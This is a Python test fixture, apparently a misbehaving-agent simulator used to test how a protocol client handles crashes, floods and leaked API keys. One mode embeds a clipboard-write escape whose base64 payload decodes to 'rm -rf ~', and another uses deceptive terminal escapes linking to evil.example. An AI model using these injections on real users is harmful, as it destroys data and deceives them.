        call = {"toolCallId": "t1", "title": "Print", "kind": "execute", "status": "in_progress"}
        update("s1", {"sessionUpdate": "tool_call", **call, "content": shown})
        ask("exit", "terminal/wait_for_exit", {"terminalId": result["terminalId"]})
        return
    elif what == "create" and MODE in ("terminal_slow", "terminal_key"):  # silent while it runs
        ask("exit", "terminal/wait_for_exit", {"terminalId": result["terminalId"]})
        return
    elif what == "create" and MODE in ("terminal_group", "terminal_left", "cancelled_terminal"):
        ask(("started?", result["terminalId"]), "terminal/output", {"terminalId": result["terminalId"]})
        return
    elif isinstance(what, tuple) and what[0] == "started?":  # asks again until the command has started
        terminal = what[1]
        if "started" not in result["output"]:
            ask(what, "terminal/output", {"terminalId": terminal})
            return
        if MODE == "cancelled_terminal":  # works on until cancelled
            shown = [{"type": "terminal", "terminalId": terminal}]
            update("s1", {"sessionUpdate": "tool_call_update", "toolCallId": "c1", "content": shown})
            update("s1", chunk("running"))
            return
        if MODE == "terminal_left":  # the pid is written: the turn ends with the terminal running
            send(end_turn(prompt_id))
            return
        ask("kill", "terminal/kill", {"terminalId": terminal})
        ask("exit", "terminal/wait_for_exit", {"terminalId": terminal})
        return
    elif what == "exit":
        if MODE in ("terminal_call", "killed_call"):
            done = {"sessionUpdate": "tool_call_update", "status": "completed"}
            update("s1", {**done, "toolCallId": "t1" if MODE == "terminal_call" else "k1"})
        update("s1", chunk(f"exited={json.dumps(result, sort_keys=True)}"))
    elif what == "read_then_fail":
        update("s1", {"sessionUpdate": "tool_call_update", "toolCallId": "a1", "status": "failed"})
    elif what == "read_all" and result is not None:
        update("s1", chunk(f"read {len(result['content'])} characters"))
    elif what == "rewrite" and HOW == "exit":
        os._exit(3)
    elif what == "rewrite" and HOW == "violation":
        update("s1", {"sessionUpdate": "tool_call_update", "toolCallId": "ghost", "status": "completed"})
    elif what == "rewrite" and HOW in ("end_turn", "max_tokens"):  # e1 still running
        send({"jsonrpc": "2.0", "id": prompt_id, "result": {"stopReason": HOW}})
    elif what in ("write_odd", "rewrite"):
        pass  # its answer is told above; rewrite: works on until cancelled
    elif what == "read":
        if result is not None:
            update("s1", chunk(f"line3={result['content']!r} "))
        path = os.path.join(MARKER, "new", "deeper", "out.txt")
        ask("write", "fs/write_text_file", {"path": path, "content": "written"})
        return
    elif what == "write":
        update("s1", chunk(f"write={'error' not in msg} "))
        if "error" in msg:
            send(end_turn(prompt_id))
            return
        ask("quiet", "terminal/create", {"command": "sh", "args": ["-c", "echo hello"], "outputByteLimit": 0})
        return
    elif what == "quiet":
        ask(
            ("quiet_exit", result["terminalId"]),
            "terminal/wait_for_exit",
            {"terminalId": result["terminalId"]},
        )
        return
    elif isinstance(what, tuple) and what[0] == "quiet_exit":  # it exited: read what it kept
        ask("quiet_output", "terminal/output", {"terminalId": what[1]})
        return
    elif what == "quiet_output":
        update("s1", chunk(f"output={result['output']!r} truncated={result['truncated']}"))
    elif what == "kill":
        return
    send(end_turn(prompt_id))


sys.stderr.write(f"bad agent starting in {MODE} mode; api_key={os.environ.get('BAD_AGENT_KEY', '')}\n")
sys.stderr.flush()

for line in sys.stdin:
    msg = json.loads(line)
    method, mid = msg.get("method"), msg.get("id")
    if method == "initialize":
        while MODE == "slow_respawn" and respawned and os.path.exists(MARKER):
            time.sleep(0.05)
        if not silent:
            version = 2 if MODE == "future" else 1
            answer = {"protocolVersion": version, "agentCapabilities": {}}
            if MODE == "needs_login":
                key = {"id": "key", "name": "API key", "type": "env_var", "vars": [{"name": "AGENT_API_KEY"}]}
                answer["authMethods"] = [
                    {"id": "login", "name": "Log in", "description": "run `agent login`"},
                    key,
                ]
                if MARKER == "hostile":  # a clipboard write, a bidi override, its key with an escape inside
                    own = os.environ.get("BAD_AGENT_KEY", "")
                    odd = f"run\x1b]52;c;cm0gLXJmIH4=\x07 agent\u202e login\n{own[:5]}\x1b[0m{own[5:]}"
                    answer["authMethods"][0]["description"] = odd
            send({"jsonrpc": "2.0", "id": mid, "result": answer})
    elif method == "session/new" and MODE == "reads_first":  # its instructions, before answering
        pending_answers["new"] = mid
        params = {"sessionId": "s1", "path": MARKER}
        send({"jsonrpc": "2.0", "id": 960, "method": "fs/read_text_file", "params": params})
    elif mid == 960 and MODE == "reads_first":
        pending_answers["read"] = (msg.get("result") or {}).get("content") or msg.get("error")
        send({"jsonrpc": "2.0", "id": pending_answers.pop("new"), "result": {"sessionId": "s1"}})
    elif method == "session/prompt" and MODE == "reads_first":
        update("s1", chunk(f"read first: {pending_answers.get('read')}"))
        send(end_turn(mid))
    elif method == "session/new" and MODE == "needs_login":
        send({"jsonrpc": "2.0", "id": mid, "error": {"code": -32000, "message": "Authentication required"}})
    elif method == "session/new":
        if MODE == "commands_once" and not respawned:
            commands = [{"name": "mid", "description": "offered by the first process only"}]
            update("s1", {"sessionUpdate": "available_commands_update", "availableCommands": commands})
        if MODE == "early_update":  # one listed twice, and a name no / word can be
            early = {"name": "early", "description": "announced before session/new was answered"}
            commands = [early, early, {"name": "ea\nrly", "description": "a line break in its name"}]
            update("s1", {"sessionUpdate": "available_commands_update", "availableCommands": commands})
        modes = {
            "currentModeId": "ask",
            "availableModes": [{"id": "ask", "name": "Ask"}, {"id": "code", "name": "Code"}],
        }
        if MODE == "switches_then_refuses":
            modes["availableModes"].append({"id": "plan", "name": "Plan"})
        if MODE == "secret_modes":  # the person's key in a mode's description and in another's id
            key = os.environ.get("BAD_AGENT_KEY", "")
            modes["availableModes"] = [
                {"id": "ask", "name": "Ask", "description": f"uses key {key}"},
                {"id": f"m-{key}", "name": "Keyed"},
            ]
        if MODE == "big_texts":
            big = "b" * BIG_TEXT
            modes["availableModes"] = [
                {"id": "ask", "name": big, "description": big},
                {"id": "code", "name": "Code"},
                {"id": big, "name": "Big"},  # an id too long to offer
            ]
        result = {"sessionId": "s1", "modes": modes}
        if MODE == "big_texts":
            choices = [{"value": "normal", "name": big, "description": big}, {"value": big, "name": "Big"}]
            result["configOptions"] = [
                {
                    "type": "select",
                    "id": "v",
                    "name": big,
                    "description": big,
                    "currentValue": big,  # a current value too long to be one of them
                    "options": choices,
                },
                {"type": "boolean", "id": "f", "name": big, "description": big, "currentValue": False},
            ]
        if MODE == "early_batch":
            commands = [{"name": "early", "description": "announced with session/new's answer"}]
            lines(
                notification("s1", {"sessionUpdate": "session_info_update", "title": "Named early"}),
                notification("s1", {"sessionUpdate": "current_mode_update", "currentModeId": "code"}),
                notification(
                    "s1", {"sessionUpdate": "available_commands_update", "availableCommands": commands}
                ),
                {"jsonrpc": "2.0", "id": mid, "result": result},
            )
            new_id = mid
            continue
        if MODE in ("options", "racing", "switches_back"):
            result["configOptions"] = config_options()
        if MODE == "mode_option":  # a mode-category option: it is the mode, the legacy modes are not
            choices = [{"value": "careful", "name": "Careful"}, {"value": "quick", "name": "Quick"}]
            result["configOptions"] = [
                {
                    "type": "select",
                    "id": "style",
                    "name": "Style",
                    "category": "mode",
                    "currentValue": "careful",
                    "options": choices,
                }
            ]
        send({"jsonrpc": "2.0", "id": mid, "result": result})
        new_id = mid
    elif method == "session/set_config_option":
        if msg["params"]["configId"] == "verbosity" and msg["params"]["value"] not in offered_levels:
            send(
                {
                    "jsonrpc": "2.0",
                    "id": mid,
                    "error": {"code": -32602, "message": f"no verbosity {msg['params']['value']}"},
                }
            )
            continue
        if (
            msg["params"]["configId"] == "fast"
            and msg["params"]["value"]
            and options["verbosity"] == "detailed"
        ):
            send(
                {
                    "jsonrpc": "2.0",
                    "id": mid,
                    "error": {"code": -32602, "message": "detailed answers are never fast"},
                }
            )
            continue
        if MODE == "racing":  # its own report of the value it had, sent before it takes the new one
            update("s1", {"sessionUpdate": "config_option_update", "configOptions": config_options()})
        options[msg["params"]["configId"]] = msg["params"]["value"]
        send({"jsonrpc": "2.0", "id": mid, "result": {"configOptions": config_options()}})
    elif method == "session/set_mode":
        if MODE == "mode_hang":
            continue
        if MODE == "racing":
            update("s1", {"sessionUpdate": "current_mode_update", "currentModeId": current_mode[0]})
            current_mode[0] = msg["params"]["modeId"]
            send({"jsonrpc": "2.0", "id": mid, "result": {}})
            continue
        if MODE == "switches_back":  # takes the mode, then switches back to ask, in the same write
            current_mode[0] = "ask"
            back = notification("s1", {"sessionUpdate": "current_mode_update", "currentModeId": "ask"})
            lines({"jsonrpc": "2.0", "id": mid, "result": {}}, back)
            continue
        if MODE == "switches_then_refuses":  # switches itself to code, then refuses what it was sent
            current_mode[0] = "code"
            update("s1", {"sessionUpdate": "current_mode_update", "currentModeId": "code"})
        send(
            {
                "jsonrpc": "2.0",
                "id": mid,
                "error": {"code": -32602, "message": "this agent stays in ask mode"},
            }
        )
    elif method == "session/prompt":
        update("s1", chunk("working... "))
        if MODE == "slow_respawn":
            update("s1", chunk(f"got {msg['params']['prompt'][0].get('text')}"))
            send(end_turn(mid))
            continue
        if MODE == "between_turns":  # "first": a call and a chunk after its answer; then it ends the call
            text = msg["params"]["prompt"][0].get("text")
            bg = {"sessionUpdate": "tool_call", "toolCallId": "bg1", "title": "Background", "kind": "execute"}
            if text == "first":
                send(end_turn(mid))
                update("s1", {**bg, "status": "in_progress"})
                update("s1", chunk("said between turns"))
            else:
                update(
                    "s1", {"sessionUpdate": "tool_call_update", "toolCallId": "bg1", "status": "completed"}
                )
                update("s1", chunk(f"got {text}"))
                send(end_turn(mid))
            continue
        if MODE == "plan_ends":  # a plan, then the turn ends as the prompt says
            text = msg["params"]["prompt"][0].get("text")
            entry = {"content": "step one", "status": "completed", "priority": "medium"}
            update("s1", {"sessionUpdate": "plan", "entries": [entry]})
            if text == "crash":
                sys.stdout.flush()
                os._exit(1)
            if text == "error":
                send({"jsonrpc": "2.0", "id": mid, "error": {"code": -32603, "message": "model overloaded"}})
            prompt_id = mid
            continue  # "hang": until the cancel
        if MODE == "deep_update":
            deep: list = []
            for _ in range(300):
                deep = [deep]
            call = {"sessionUpdate": "tool_call", "toolCallId": "d1", "title": "Deep", "kind": "read"}
            update("s1", {**call, "status": "completed", "rawOutput": {"ast": deep}})
            send(end_turn(mid))
            continue
        if MODE == "reuses_id":  # a call ended, then announced again under its id and failed
            done = {"sessionUpdate": "tool_call", "toolCallId": "t1", "title": "first", "kind": "read"}
            update("s1", {**done, "status": "completed"})
            update("s1", {**done, "title": "again", "status": "in_progress"})
            boom = [{"type": "content", "content": {"type": "text", "text": "boom"}}]
            update(
                "s1",
                {
                    "sessionUpdate": "tool_call_update",
                    "toolCallId": "t1",
                    "status": "failed",
                    "content": boom,
                },
            )
            send(end_turn(mid))
            continue
        if MODE == "secret_modes":  # it takes the keyed mode on its own
            key = os.environ.get("BAD_AGENT_KEY", "")
            update("s1", {"sessionUpdate": "current_mode_update", "currentModeId": f"m-{key}"})
            send(end_turn(mid))
            continue
        if MODE == "hang" or (MODE == "deaf_once" and not respawned):
            continue
        if MODE == "terminal_left" and msg["params"]["prompt"][0].get("text") == "embed":
            # shows term-1 in a call without having created it (a fresh process after a restart)
            call = {
                "sessionUpdate": "tool_call",
                "toolCallId": "e1",
                "title": "Show term-1",
                "kind": "execute",
            }
            update(
                "s1",
                {**call, "status": "completed", "content": [{"type": "terminal", "terminalId": "term-1"}]},
            )
            send(end_turn(mid))
            continue
        if MODE in ("steered", "steered_dies"):
            usage = {"inputTokens": 5, "outputTokens": 2, "totalTokens": 7}
            first = not steered
            if first:
                steered = True
                usage = {"inputTokens": 100, "outputTokens": 10, "totalTokens": 110}
                while not os.path.exists(MARKER):  # the test sets the steering message, then this
                    time.sleep(0.01)
            else:
                update("s1", chunk("heard: " + msg["params"]["prompt"][0].get("text", "")))
            answer = {"jsonrpc": "2.0", "id": mid, "result": {"stopReason": "end_turn", "usage": usage}}
            if MODE == "steered" and first:  # a chunk read together with its first answer
                lines(answer, notification("s1", chunk("[said with the first answer] ")))
            else:
                send(answer)
            if MODE == "steered_dies":
                sys.exit(3)
            continue
        if MODE == "bad_image":
            image = {"type": "image", "mimeType": "image/png", "data": "!!!not base64!!!"}
            update("s1", {"sessionUpdate": "agent_message_chunk", "content": image})
            send(end_turn(mid))
            continue
        if MODE in ("racing", "switches_back", "switches_then_refuses"):
            update("s1", chunk(json.dumps({"mode": current_mode[0], **options}, sort_keys=True)))
            send(end_turn(mid))
            continue
        if MODE in ("options", "deaf_once"):
            if msg["params"]["prompt"][0].get("text") == "offer":  # a level it did not offer before
                offered_levels.append("verbose")
                options["verbosity"] = "verbose"
                update("s1", {"sessionUpdate": "config_option_update", "configOptions": config_options()})
            update("s1", chunk(json.dumps(options, sort_keys=True)))
            send(end_turn(mid))
        elif MODE == "mode_option":
            update("s1", {"sessionUpdate": "current_mode_update", "currentModeId": "code"})
            send(end_turn(mid))
        elif MODE == "unknown_call_answered":
            ghost = {"sessionUpdate": "tool_call_update", "toolCallId": "ghost", "status": "completed"}
            lines(notification("s1", ghost), end_turn(mid))
        elif MODE == "unknown_session_answered":
            lines(notification("someone-else", chunk("hi")), end_turn(mid))
        elif MODE == "bad_mode":
            update("s1", {"sessionUpdate": "current_mode_update", "currentModeId": "no-such-mode"})
            send(end_turn(mid))
        elif MODE == "split_key":
            key = os.environ.get("BAD_AGENT_KEY", "")

            def thought(text: str) -> dict:
                return {"sessionUpdate": "agent_thought_chunk", "content": {"type": "text", "text": text}}

            update("s1", chunk("key: " + key[:10]))
            update("s1", thought("thinking sk-"))
            update("s1", thought("proj-Q7xW9zR2tY4uI6oP8aS1dF3gH5jK7lZ0xC2vB4nM6 done"))
            update("s1", chunk(key[10:] + " done; the other: sk-proj-Q7xW9zR2"))
            send(end_turn(mid))
        elif MODE == "answer_then_exit":  # a long answer (20 MB to read), then exits at once
            result = {"stopReason": "end_turn", "_meta": {"pad": "x" * 20_000_000}}
            send({"jsonrpc": "2.0", "id": mid, "result": result})
            os._exit(0)
        elif MODE == "key_start_error":  # a key's start, then the prompt answered with an error
            first_prompt = not globals().get("_answered_once")
            globals()["_answered_once"] = True
            if first_prompt:
                update("s1", chunk("the key is sk-proj-Q7xW9zR2t"))
                send({"jsonrpc": "2.0", "id": mid, "error": {"code": -32000, "message": "rate limited"}})
            else:
                update("s1", chunk(" and more"))
                send(end_turn(mid))
        elif MODE == "char_key":
            for character in CHAR_KEY_MESSAGE:
                update("s1", chunk(character))
            for character in CHAR_KEY_THOUGHT:
                update(
                    "s1",
                    {"sessionUpdate": "agent_thought_chunk", "content": {"type": "text", "text": character}},
                )
            send(end_turn(mid))
        elif MODE == "big_call":
            text = {"type": "content", "content": {"type": "text", "text": "t" * 2_000_000}}
            call = {"toolCallId": "b1", "title": "T" * 1_000_000, "kind": "other", "status": "completed"}
            big = {
                "rawInput": {"data": "x" * 2_000_000},
                "rawOutput": {"out": "y" * 2_000_000},
                "content": [text],
            }
            update("s1", {"sessionUpdate": "tool_call", **call, **big})
            send(end_turn(mid))
        elif MODE == "big_content":
            key = os.environ.get("BAD_AGENT_KEY", "")
            image = base64.b64encode(b"\x89PNG" + key.encode() + bytes(6_000_000)).decode()
            blob = base64.b64encode(f"OPENAI_API_KEY={key}\n".encode()).decode()
            env = {"uri": "file:///w/.env", "mimeType": "text/plain", "blob": blob}
            items = [
                {"type": "content", "content": {"type": "image", "mimeType": "image/png", "data": image}},
                {"type": "content", "content": {"type": "resource", "resource": env}},
                {
                    "type": "content",
                    "content": {"type": "resource_link", "name": "l", "uri": "https://x/" + "l" * 20_000},
                },
                {
                    "type": "diff",
                    "path": "/w/big.txt",
                    "oldText": "a\n" * 800_000,
                    "newText": "b\n" * 800_000,
                },
                {"type": "diff", "path": "/w/" + "p" * 20_000, "oldText": "same", "newText": "same"},
                *({"type": "content", "content": {"type": "text", "text": "t" * 100_000}} for _ in range(80)),
            ]
            call = {"toolCallId": "c1", "title": "Everything", "kind": "other", "status": "completed"}
            locations = [{"path": f"/w/f{i}.txt", "line": i} for i in range(200)]
            update("s1", {"sessionUpdate": "tool_call", **call, "content": items, "locations": locations})
            small = {"toolCallId": "c2", "title": "Read .env", "kind": "read", "status": "completed"}
            update("s1", {"sessionUpdate": "tool_call", **small, "content": [items[1]]})  # a frame kept whole
            send(end_turn(mid))
        elif MODE == "big_texts":
            key = os.environ.get("BAD_AGENT_KEY", "")
            error = {"code": -32000, "message": "e" * 990 + key, "data": {"blob": "z" * BIG_TEXT}}
            send({"jsonrpc": "2.0", "id": mid, "error": error})
        elif MODE == "garbage":
            sys.stdout.write("this is not JSON at all\n")
            sys.stdout.flush()
        elif MODE == "stdout_line":
            sys.stdout.write(MARKER + "\n")
            sys.stdout.flush()
        elif MODE == "flood":
            block = "x" * 65536 + "\n"
            for _ in range(64):
                sys.stderr.write(block)
            sys.stderr.flush()
        elif MODE == "unknown_session":
            update("someone-else", chunk("hi"))
        elif MODE == "unknown_call":
            update("s1", {"sessionUpdate": "tool_call_update", "toolCallId": "ghost", "status": "completed"})
        elif MODE == "violation_then_more":  # in one write: the host reads them in one go
            ghost = {"sessionUpdate": "tool_call_update", "toolCallId": "ghost-1", "status": "completed"}
            announce = {
                "sessionUpdate": "tool_call",
                "toolCallId": "ghost-1",
                "title": "Late",
                "kind": "read",
            }
            lines(
                notification("s1", ghost),
                notification("s1", announce),
                notification("s1", chunk("still here")),
            )
        elif MODE == "second_response":
            send({"jsonrpc": "2.0", "id": new_id, "result": {"sessionId": "s1"}})
        elif MODE == "crash_then_silent":
            sys.stderr.write("crashing now\n")
            sys.stderr.flush()
            os._exit(5)
        elif MODE == "echo_key":
            update("s1", chunk(f"my key is {os.environ.get('BAD_AGENT_KEY', '')}"))
            send(end_turn(mid))
        elif MODE == "key_tail":
            sys.stderr.write(os.environ.get("BAD_AGENT_KEY", "") + "B" * 2030)
            sys.stderr.flush()
            os._exit(1)
        elif MODE == "key_start":
            key = os.environ.get("BAD_AGENT_KEY", "")
            sys.stderr.write(f"dying: {key} ; {key[:15]}")  # it died writing its key a second time
            sys.stderr.flush()
            os._exit(1)
        elif MODE == "escapes":
            key = os.environ.get("BAD_AGENT_KEY", "")
            sys.stderr.write(
                "\x1b[31mfatal\x1b[0m: \x1b]0;owned\x07\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\"
                f" \x1b[2Jcleared\rover\x07 key={key[:6]}\x1b[0m{key[6:]}\n"
            )
            sys.stderr.flush()
            os._exit(1)
        elif MODE == "key_retries":
            for n in range(200):
                sys.stderr.write(f"retry {n}: connecting with key {os.environ.get('BAD_AGENT_KEY', '')}\n")
            sys.stderr.flush()
            os._exit(1)
        elif MODE == "env":
            update("s1", chunk(json.dumps(sorted(os.environ))))
            send({"jsonrpc": "2.0", "id": mid, "result": {"stopReason": "end_turn"}})
        elif MODE == "late_permission":
            prompt_id = mid
            continue
        elif MODE == "bad_stop":
            send({"jsonrpc": "2.0", "id": mid, "result": {"stopReason": "bogus"}})
        elif MODE == "bad_update":
            update("s1", {"sessionUpdate": "no_such_update", "whatever": 1})
        elif MODE == "lone_halves":
            update("s1", chunk("before the call \ud83d"))
            call = {"sessionUpdate": "tool_call", "toolCallId": "t1", "title": "Look", "status": "completed"}
            update("s1", call)
            update("s1", chunk("after it \ud83d"))
            send(end_turn(mid))
        elif MODE == "lone_half_dies":
            update("s1", chunk("last words \ud83d"))
            os._exit(1)
        elif MODE == "surrogates":
            update("s1", chunk("smile \ud83d"))
            update("s1", chunk("\ude00 done"))
            send(end_turn(mid))
        elif MODE in ("early_update", "early_batch", "mode_hang"):
            send(end_turn(mid))
        elif MODE == "late_update":
            asked.append(mid)  # counts the prompts
            call = {"sessionUpdate": "tool_call", "toolCallId": "bg-9", "title": "Watch the build"}
            if len(asked) == 1:
                update("s1", {**call, "status": "in_progress"})
            else:
                update(
                    "s1", {"sessionUpdate": "tool_call_update", "toolCallId": "bg-9", "status": "completed"}
                )
                update("s1", chunk("done"))
            send(end_turn(mid))
        elif MODE == "diffs":
            for k in range(3):
                diff = {
                    "type": "diff",
                    "path": os.path.join(MARKER, f"f{k}.txt"),
                    "oldText": None,
                    "newText": f"{k}" * 40000,
                }
                call = {"sessionUpdate": "tool_call", "toolCallId": f"d{k}", "title": f"Write f{k}.txt"}
                update("s1", {**call, "kind": "edit", "status": "completed", "content": [diff]})
            send(end_turn(mid))
        elif MODE in (
            "ask",
            "terminal_group",
            "terminal_background",
            "terminal_left",
            "cancelled_terminal",
            "terminal_slow",
            "terminal_key",
            "terminal_call",
            "killed_call",
            "files",
            "read_all",
            "read_then_fail",
            "write_odd",
            "approved_then_changed",
            "always_scope",
            "always_rejected",
            "always_no_input",
            "always_twice",
            "plan_terminal",
            "two_calls_terminal",
            "fenced_edit",
            "twice_asked",
            "odd_ids",
            "odd_commands",
            "terminal_burst",
            "write_then_wait",
            "odd_path",
            "background_wait",
            "ends_own_call",
            "denied_ran",
            "odd_titles",
            "bare_terminal",
            "keyed_cwd",
            "terminal_churn",
            "terminal_everywhere",
            "terminal_cut",
            "permission_storm",
        ):
            prompt_id = mid
            prompt_text = msg["params"]["prompt"][0].get("text")
            if MODE == "background_wait" and background[0]:
                continue  # a later prompt: hangs
            request(MODE, mid)
        elif MODE == "big_commands":
            key = os.environ.get("BAD_AGENT_KEY", "")
            text = "d" * 995 + key + "d" * 150_000
            commands = [{"name": f"c{i}", "description": text} for i in range(200)]
            commands.insert(0, {"name": "n" * 5000, "description": "a long name"})
            update("s1", {"sessionUpdate": "available_commands_update", "availableCommands": commands})
            send(end_turn(mid))
        elif MODE == "leaks":
            key = os.environ.get("BAD_AGENT_KEY", "")
            update("s1", {"sessionUpdate": "session_info_update", "title": "t" * (200 - 10) + key})
            command = {"name": "deploy", "description": f"Deploy with key {key}"}
            update("s1", {"sessionUpdate": "available_commands_update", "availableCommands": [command]})
            diff = {
                "type": "diff",
                "path": os.path.join(MARKER, "env.txt"),
                "oldText": None,
                "newText": f"KEY={key}\n",
            }
            call = {
                "sessionUpdate": "tool_call",
                "toolCallId": "w1",
                "title": "Write env.txt",
                "kind": "edit",
            }
            update("s1", {**call, "status": "completed", "content": [diff]})
            failed = {"type": "content", "content": {"type": "text", "text": "y" * 490 + key}}
            call = {"sessionUpdate": "tool_call", "toolCallId": "f1", "title": "Deploy", "kind": "execute"}
            update("s1", {**call, "status": "failed", "content": [failed]})
            blob = {"uri": "file:///tmp/key.bin", "mimeType": "application/octet-stream"}
            blob["blob"] = base64.b64encode(f"blob {key}".encode()).decode()
            update("s1", chunk("see the blob "))
            update(
                "s1",
                {"sessionUpdate": "agent_message_chunk", "content": {"type": "resource", "resource": blob}},
            )
            frame = notification("s1", chunk(""))
            start = json.dumps(frame, ensure_ascii=False).index('"text": ""') + len('"text": "')
            frame["params"]["update"]["content"]["text"] = "z" * (16_384 - start - 20) + key
            send(frame)
            send(end_turn(mid))
        elif MODE in ("write_between", "command_between"):
            if "between" not in pending_answers:
                send(end_turn(mid))
                pending_answers["between"] = None
                if MODE == "write_between":
                    method = "fs/write_text_file"
                    params = {"sessionId": "s1", "path": MARKER, "content": "written between turns"}
                else:
                    method = "terminal/create"
                    params = {"sessionId": "s1", "command": "sh", "args": ["-c", f"echo changed > {MARKER}"]}
                send({"jsonrpc": "2.0", "id": 950, "method": method, "params": params})
            elif pending_answers["between"] is None:  # its answer is not here yet: reported when it is
                pending_answers["waiting"] = mid
            else:
                update("s1", chunk(f"the write between turns: {json.dumps(pending_answers['between'])}"))
                send(end_turn(mid))
        elif MODE == "odd_info":
            update("s1", {"sessionUpdate": "session_info_update", "title": "\u202eevil\nline\x1b[31mred"})
            cost = {"amount": 1.5, "currency": "X" * 5000}
            update("s1", {"sessionUpdate": "usage_update", "size": 2**64, "used": 2**60, "cost": cost})
            infinite = {"amount": float("inf"), "currency": "USD"}  # 1e400 as a JSON reader takes it
            update("s1", {"sessionUpdate": "usage_update", "size": 100, "used": 1, "cost": infinite})
            update("s1", {"sessionUpdate": "usage_update", "size": 200_000, "used": 1_000})
            send(end_turn(mid))
        elif MODE == "title_cleared":
            asked.append(mid)  # counts the prompts
            title = "Agent title" if len(asked) == 1 else None
            update("s1", {"sessionUpdate": "session_info_update", "title": title})
            send(end_turn(mid))
        elif MODE == "close_stdout":
            sys.stdout.flush()
            os.close(1)
            import time

            time.sleep(60)  # alive, with nothing more to say: stopped by the host
            os._exit(0)
        elif MODE == "huge_line":  # one message chunk of 40 MB, in one line
            update("s1", chunk("z" * 40_000_000))
            send(end_turn(mid))
        elif MODE == "many_calls":
            calls = [
                notification("s1", {"sessionUpdate": "tool_call", "toolCallId": f"c{i}", "title": f"Read {i}", "kind": "read", "status": "completed"})
                for i in range(2050)
            ]  # fmt: skip
            late = {"sessionUpdate": "tool_call_update", "toolCallId": "c2040", "status": "completed"}
            lines(*calls, notification("s1", late), notification("s1", chunk("done")), end_turn(mid))
        elif MODE == "big_chunks":
            for i in range(200):
                update("s1", chunk(f"[{i:03}]" + "y" * 16_000))
            send({"jsonrpc": "2.0", "id": mid, "result": {"stopReason": "end_turn"}})
    elif method == "session/cancel" and MODE in (
        "write_then_wait",
        "cancelled_terminal",
        "bare_terminal",
        "plan_ends",
    ):
        send({"jsonrpc": "2.0", "id": prompt_id, "result": {"stopReason": "cancelled"}})
    elif method == "session/cancel" and MODE == "late_permission":
        send(
            {
                "jsonrpc": "2.0",
                "id": 900,
                "method": "session/request_permission",
                "params": {
                    "sessionId": "s1",
                    "toolCall": {"toolCallId": "late", "title": "Late request", "kind": "edit"},
                    "options": [{"optionId": "yes", "name": "Yes", "kind": "allow_once"}],
                },
            }
        )
    elif mid == 950 and MODE in ("write_between", "command_between"):
        pending_answers["between"] = msg.get("error") or msg.get("result")
        if "waiting" in pending_answers:  # the next prompt came first
            update("s1", chunk(f"the write between turns: {json.dumps(pending_answers['between'])}"))
            send(end_turn(pending_answers.pop("waiting")))
    elif mid in pending:  # the client's answer to one of this agent's requests
        answered(pending.pop(mid), msg)
    elif "result" in msg and mid == 900:
        sys.stderr.write(f"permission outcome: {json.dumps(msg['result'])}\n")
        sys.stderr.flush()
        send({"jsonrpc": "2.0", "id": prompt_id, "result": {"stopReason": "cancelled"}})
